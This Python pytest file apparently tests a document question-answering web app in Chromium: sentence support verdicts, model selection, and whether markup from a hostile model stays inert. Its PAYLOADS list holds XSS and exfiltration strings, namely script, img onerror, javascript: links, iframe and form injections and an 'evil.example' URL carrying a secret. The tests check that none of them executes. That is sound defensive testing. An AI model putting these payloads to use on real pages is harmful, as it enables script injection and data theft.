"""A language model's answer in Chromium: verdicts beside its sentences, notices, and nothing of a hostile one's markup."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from browsing import Site, ask
from page_fakes import FakeLibrary, built, cite, document, serving

from qa.answer import Answer, AnswerSentence, LlmUsage, Mode, Support, Timings

pytestmark = pytest.mark.browser

NOTES = document("Anna demanded a pay rise. The boss left.", source="notes.md", title="Notes")
WHAT, EVIL, DOWN = "What did Anna demand?", "Be evil?", "Are you there?"
PAYLOADS = [
    "![a](http://127.0.0.1:9/x?q=S3CRET)",
    "<img src=http://127.0.0.1:9/x onerror=window.__xss=1>",
    "<script>window.__xss=1</script>",
    "[click here](javascript:window.__xss=1) https://evil.example/?q=S3CRET",
    "<a href='http://127.0.0.1:9'>here</a> <iframe src=http://127.0.0.1:9></iframe>",
    "<form action=http://127.0.0.1:9><button>Yes</button></form> <style>*{display:none}</style>",
]


def said(text: str, support: Support, *markers: int, reason: str | None = None) -> AnswerSentence:
    return AnswerSentence(text=text, markers=markers, support=support, score=0.5, reason=reason)


def by_llm(question: str, *sentences: AnswerSentence, **more: Any) -> Answer:
    used = {m for s in sentences for m in s.markers}
    return Answer(
        question=question, text="", abstained=False, mode=Mode.LLM, model="stub-1", sentences=sentences,
        citations=(cite(NOTES, "Anna demanded a pay rise.", 1),) if used else (),
        usage=LlmUsage(prompt_tokens=1200, completion_tokens=34, estimated=False),
        timings=Timings(total_ms=900.0), **more,
    )  # fmt: skip


ANSWERS = {
    WHAT: by_llm(
        WHAT,
        said("Anna wanted more pay.", Support.SUPPORTED, 1),
        said("She got it.", Support.CONTRADICTED, reason="the evidence says otherwise"),
        said("Everyone cheered.", Support.UNSUPPORTED, reason="no line of the documents is about it"),
        notices=("1 sentence that the documents don't bear out was removed.",),
    ),
    EVIL: by_llm(
        EVIL, *(said(text, Support.UNSUPPORTED, reason=text) for text in PAYLOADS), notices=tuple(PAYLOADS)
    ),
    DOWN: by_llm(DOWN, said("Yes.", Support.SUPPORTED, 1)),
}


@dataclass
class Writing:
    """A conversation that remembers who was asked to write."""

    asked: list[dict[str, Any]] = field(default_factory=list)

    def stream(self, question: str, **options: Any) -> Iterator[Answer]:
        self.asked.append(options)
        yield ANSWERS[question]


@pytest.fixture
def talk() -> Writing:
    return Writing()


@pytest.fixture
def site(tmp_path, talk):
    made = Site(address="", library=FakeLibrary.of(NOTES))
    writing = {
        name: {"llm": name, "unsupported": "show", "judge": "verifier"} for name in ("stub:one", "stub:two")
    }
    app = built(made.library, converse=lambda: talk, examples=(WHAT,), uploads=tmp_path, writing=writing)
    with serving(app) as made.address:
        yield made


def texts(page, selector) -> list[str]:
    return page.evaluate("s => [...document.querySelectorAll(s)].map(n => n.textContent)", selector)


def test_each_sentence_shows_its_verdict_and_the_answer_its_cost(page):
    ask(page, WHAT)
    assert texts(page, ".sentence.supported") == ["Anna wanted more pay."]
    assert texts(page, ".verdict") == ["contradicted by its source", "not borne out by its source"]
    assert page.get_attribute(".verdict.contradicted", "title") == "the evidence says otherwise"
    assert texts(page, ".notice") == ["1 sentence that the documents don't bear out was removed."]
    facts = page.inner_text(".facts")
    assert "Written by stub-1 · 1 of 3 sentences borne out · 1,234 tokens" in facts


def test_the_user_chooses_who_writes_among_the_servers_models_alone(page, talk):
    page.wait_for_selector(".writing:not([hidden])")
    assert texts(page, ".writer option") == ["your documents", "stub:one", "stub:two"]
    assert "Question and passages go to stub:one." in page.inner_text(".promise")
    ask(page, WHAT)
    page.select_option(".writer", "")
    assert "Nothing leaves this machine." in page.inner_text(".promise")
    ask(page, DOWN)
    assert [options.get("llm") for options in talk.asked] == ["stub:one", None]
    page.evaluate(
        "document.querySelector('.writer').append(new Option('x', 'openai-like:x@http://127.0.0.1:9'))"
    )
    page.select_option(".writer", "openai-like:x@http://127.0.0.1:9")
    ask(page, EVIL)
    assert talk.asked[-1].get("llm") is None


def test_a_hostile_model_reaches_nothing(page):
    outside = []
    page.on(
        "request",
        lambda request: (
            outside.append(request.url) if ":9/" in request.url or "evil" in request.url else None
        ),
    )
    ask(page, EVIL)
    assert texts(page, ".sentence.unsupported") == PAYLOADS
    inert = "#chat :is(img, iframe, script, style, form:not(.composer), object, embed, video, audio)"
    assert page.locator(inert).count() == 0
    assert page.evaluate("[...document.querySelectorAll('.turn a')].map(a => a.getAttribute('href'))") == []
    assert page.evaluate("window.__xss") is None
    assert outside == []
